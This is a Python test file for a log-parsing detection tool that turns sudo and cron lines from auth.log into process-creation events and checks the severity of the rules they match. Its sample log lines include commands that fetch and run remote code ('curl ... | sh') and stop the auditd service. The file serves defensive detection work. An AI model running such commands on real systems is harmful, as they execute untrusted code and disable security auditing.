"""Commands that sudo and cron log are read as process creations, of which rules are at most of medium severity."""

from __future__ import annotations

import io

import pytest

from svc.assistant.findings import Finding, Severity
from svc.assistant.sigma.event import Event
from svc.assistant.skills.events.findings import RuleHit
from svc.assistant.skills.events.tool import inspect, read_events

SUDO = "sudo:   bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND="


def log_of(*messages: str) -> bytes:
    return "".join(f"Nov 26 02:1{n % 10}:01 web1 {message}\n" for n, message in enumerate(messages)).encode()


def events_of(*messages: str) -> list[Event]:
    return [one for one in read_events(io.BytesIO(log_of(*messages))) if isinstance(one, Event)]


def test_a_command_of_sudo_has_its_program_and_user():
    [event] = events_of(f"{SUDO}/usr/bin/curl -o /tmp/x http://198.51.100.7/x")
    assert event.category == "process_creation"
    named = [event.fields[name] for name in ("Image", "CommandLine", "User", "ParentImage")]
    assert named == ["/usr/bin/curl", "/usr/bin/curl -o /tmp/x http://198.51.100.7/x", "root", "/usr/bin/sudo"]


def test_a_command_of_cron_may_be_without_a_path():
    [event] = events_of("CRON[71]: (www-data) CMD (curl -s http://198.51.100.7/x | sh)")
    assert (event.category, event.fields["User"]) == ("process_creation", "www-data")
    assert "Image" not in event.fields


@pytest.mark.parametrize(
    "message",
    [
        "sudo:   bob : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id",
        "sudo:   bob : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
        "app[1]: bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id",
        "CRON[71]: (root) RELOAD (crontabs/root)",
    ],
)
def test_what_was_not_run_or_is_of_another_program_is_no_command(message: str):
    [event] = events_of(message)
    assert event.category == ""


@pytest.mark.parametrize(
    "command", [f"{SUDO}/bin/sh -c curl -s http://198.51.100.7/x | sh", f"{SUDO}/usr/bin/systemctl stop auditd"]
)
def test_a_rule_that_such_a_command_matches_is_at_most_medium(command: str):
    found = inspect(io.BytesIO(log_of(command)), source="auth.log")
    hits = [one for one in found if isinstance(one, Finding) and isinstance(one.facts, RuleHit)]
    assert {one.severity for one in hits} <= {Severity.MEDIUM, Severity.LOW, Severity.INFO}
    assert any(one.severity is Severity.MEDIUM and "administrator" in one.why for one in hits)
